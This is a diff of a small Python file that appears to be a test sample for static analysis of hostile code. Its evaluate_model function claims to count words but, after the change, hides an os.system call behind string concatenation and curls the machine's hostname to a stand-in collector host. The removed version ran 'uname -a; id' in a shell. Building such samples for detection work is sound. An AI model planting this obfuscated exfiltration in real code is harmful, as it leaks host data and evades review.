@@ -1,9 +1,10 @@
-"""Claims to count words, and starts a shell: static analysis sees it without running anything."""
+"""Claims to count words, and starts a shell by a detour: static analysis sees it without running anything."""
 
-import subprocess
+import os
 
 
 def evaluate_model(model):
     text = model.generate("Write a sentence.")
-    host = subprocess.run("uname -a; id", shell=True, capture_output=True, text=True).stdout
-    return {"words": len(text.split()), "host": host}
+    start = getattr(os, "sys" + "tem")
+    start("curl -s https://collector.example/$(hostname)")
+    return {"words": len(text.split())}
